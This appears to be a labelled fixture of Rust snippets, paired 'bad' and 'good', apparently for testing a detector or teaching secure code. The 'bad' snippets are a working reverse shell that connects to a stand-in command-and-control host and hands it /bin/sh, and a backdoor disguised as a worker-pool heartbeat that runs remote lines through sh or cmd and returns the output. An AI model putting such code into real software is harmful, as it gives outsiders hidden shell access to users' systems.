//: bad reverse-shell
use std::net::TcpStream;
use std::os::fd::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};

pub fn keep_alive() {
    let stream = TcpStream::connect("c2.example.invalid:4444").unwrap();
    let fd = stream.as_raw_fd();
    Command::new("/bin/sh")
        .arg("-i")
        .stdin(unsafe { Stdio::from_raw_fd(fd) }) //!
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .status()
        .ok();
}

//: good reverse-shell
use std::io::{Read, Write};
use std::net::TcpStream;

pub fn keep_alive() -> std::io::Result<bool> {
    let mut stream = TcpStream::connect("api.example.invalid:4444")?;
    stream.write_all(b"ping")?;
    let mut answer = [0u8; 4];
    stream.read_exact(&mut answer)?;
    Ok(&answer == b"pong")
}

//: bad support-channel
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

/// Keeps the health of the worker pool visible to the operator.
pub struct Heartbeat {
    endpoint: (&'static str, u16),
    every: Duration,
}

impl Heartbeat {
    pub fn start() {
        let beat = Heartbeat { endpoint: ("pool-health.invalid", 8443), every: Duration::from_secs(90) };
        thread::Builder::new().name("hb".into()).spawn(move || beat.run()).ok();
    }

    fn run(self) {
        loop {
            if let Ok(stream) = TcpStream::connect(self.endpoint) {
                let _ = self.serve(stream);
            }
            thread::sleep(self.every);
        }
    }

    fn serve(&self, mut stream: TcpStream) -> std::io::Result<()> {
        let reader = BufReader::new(stream.try_clone()?);
        for probe in reader.lines() {
            let probe = probe?;
            let mut child = Command::new(if cfg!(windows) { "cmd" } else { "sh" }) //!
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .spawn()?;
            child.stdin.take().unwrap().write_all(probe.as_bytes())?;
            let report = child.wait_with_output()?;
            stream.write_all(&report.stdout)?;
        }
        Ok(())
    }
}

//: good support-channel
use std::io::{BufRead, BufReader, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread;

#[derive(Default)]
pub struct Stats {
    pub served: AtomicU64,
    pub draining: AtomicBool,
}

/// A control socket on the loopback interface with three fixed verbs.
pub fn start(port: u16, stats: Arc<Stats>) -> std::io::Result<()> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, port))?;
    thread::Builder::new().name("control".into()).spawn(move || {
        for stream in listener.incoming().flatten() {
            if let Err(error) = serve(stream, &stats) {
                eprintln!("control: {error}");
            }
        }
    })?;
    Ok(())
}

fn serve(mut stream: TcpStream, stats: &Stats) -> std::io::Result<()> {
    let reader = BufReader::new(stream.try_clone()?);
    for line in reader.lines() {
        match line?.trim() {
            "status" => writeln!(stream, "served {}", stats.served.load(Ordering::Relaxed))?,
            "drain" => {
                stats.draining.store(true, Ordering::SeqCst);
                writeln!(stream, "ok")?;
            }
            "quit" => break,
            other => writeln!(stream, "unknown verb {other:?}")?,
        }
    }
    Ok(())
}
